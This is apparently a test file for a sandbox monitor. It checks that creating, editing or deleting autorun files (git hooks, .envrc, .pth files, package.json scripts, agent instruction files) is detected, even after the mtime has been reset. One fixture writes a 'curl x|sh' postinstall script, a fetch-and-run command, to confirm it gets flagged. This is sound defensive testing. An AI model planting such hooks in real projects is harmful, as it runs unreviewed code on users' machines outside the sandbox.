/** Files that run later: each listed entry's creation, edit and removal is seen; other files are not. */
import { afterAll, describe, expect, test } from "bun:test";
import { mkdirSync, mkdtempSync, realpathSync, rmSync, statSync, utimesSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { AUTORUN_FILES } from "../../src/sandbox/autorun-files.ts";
import { changedAutorun, describeAutorunChanges, snapshotAutorun } from "../../src/sandbox/autorun.ts";
import { MANDATORY_PROTECTED } from "../../src/sandbox/protected.ts";

const root = realpathSync(mkdtempSync(join(tmpdir(), "toolrt-autorun-")));
afterAll(() => rmSync(root, { recursive: true, force: true }));
let n = 0;
const workspace = () => {
  const ws = join(root, String(n++));
  mkdirSync(ws);
  return ws;
};

/** A file the entry's pattern names: `.husky/` → `.husky/hooks/pre-commit`, `*` → a made-up name. */
const exampleOf = (pattern: string) =>
  pattern.endsWith("/") ? `${pattern}hooks/pre-commit` : pattern.replaceAll("*", "python3.12").replace(
    /python3\.12\.pth$/,
    "evil.pth",
  );

const write = (ws: string, path: string, text: string) => {
  mkdirSync(dirname(join(ws, path)), { recursive: true });
  writeFileSync(join(ws, path), text);
};
const changes = (before: ReturnType<typeof snapshotAutorun>, ws: string) =>
  changedAutorun(before, snapshotAutorun(ws)).map((c) => `${c.change} ${c.path}`);

describe("every listed file that runs later", () => {
  for (const entry of AUTORUN_FILES) {
    const path = exampleOf(entry.path);
    const text = entry.jsonKey ? JSON.stringify({ [entry.jsonKey]: { x: "a" } }) : "a";
    const edited = entry.jsonKey ? JSON.stringify({ [entry.jsonKey]: { x: "b" } }) : "b";
    test(`${entry.path}: ${path} created, edited (mtime put back), removed`, () => {
      const ws = workspace();
      let before = snapshotAutorun(ws);
      write(ws, path, text);
      expect(changes(before, ws)).toEqual([`created ${path}`]);

      before = snapshotAutorun(ws);
      const { atime, mtime } = statSync(join(ws, path));
      write(ws, path, edited);
      utimesSync(join(ws, path), atime, mtime); // `touch -r`: the mtime says nothing changed
      expect(changes(before, ws)).toEqual([`changed ${path}`]);

      before = snapshotAutorun(ws);
      rmSync(join(ws, path));
      expect(changes(before, ws)).toEqual([`removed ${path}`]);
    });
  }
});

describe("what is not reported", () => {
  test("files not listed, and an untouched listed one", () => {
    const ws = workspace();
    write(ws, "Makefile", "all:\n");
    const before = snapshotAutorun(ws);
    write(ws, "src/index.ts", "x");
    write(ws, "docs/CLAUDE.md.bak", "x");
    write(ws, "node_modules/.husky/x", "x");
    expect(changes(before, ws)).toEqual([]);
  });
  test("paths the command could not write (its placeholders) are skipped, with what lies below them", () => {
    const ws = workspace();
    const before = snapshotAutorun(ws);
    write(ws, ".envrc", "");
    write(ws, ".husky/pre-commit", "");
    write(ws, "AGENTS.md", "x");
    const after = snapshotAutorun(ws);
    expect(changedAutorun(before, after, ws, [join(ws, ".envrc"), join(ws, ".husky")]).map((c) => c.path))
      .toEqual(["AGENTS.md"]);
  });
  test("package.json: new dependencies are normal work, new scripts are reported", () => {
    const ws = workspace();
    write(ws, "package.json", JSON.stringify({ scripts: { test: "bun test" }, dependencies: {} }));
    let before = snapshotAutorun(ws);
    write(ws, "package.json", JSON.stringify({ scripts: { test: "bun test" }, dependencies: { zod: "4" } }));
    expect(changes(before, ws)).toEqual([]);
    before = snapshotAutorun(ws);
    write(ws, "package.json", JSON.stringify({ scripts: { test: "bun test", postinstall: "curl x|sh" } }));
    expect(changes(before, ws)).toEqual(["changed package.json"]);
  });
  test("the description names each file, what happened and who runs it", () => {
    const ws = workspace();
    const before = snapshotAutorun(ws);
    write(ws, ".envrc", "x");
    write(ws, "package.json", "{}");
    expect(describeAutorunChanges(changedAutorun(before, snapshotAutorun(ws)))).toBe(
      "changed files that run later, outside the sandbox: .envrc (created; run by direnv, on entering the " +
        'directory); package.json "scripts" (created; run by npm, yarn and pnpm lifecycle scripts (install, ' +
        "prepare, test))",
    );
  });
});

describe("the ones nobody edits in normal work are protected like rc files", () => {
  for (const entry of AUTORUN_FILES.filter((e) => e.protect)) {
    test(entry.path, () => {
      const path = entry.path.replace(/\/$/, "");
      expect(MANDATORY_PROTECTED).toContainEqual({ path, kind: entry.path.endsWith("/") ? "dir" : "file" });
    });
  }
});
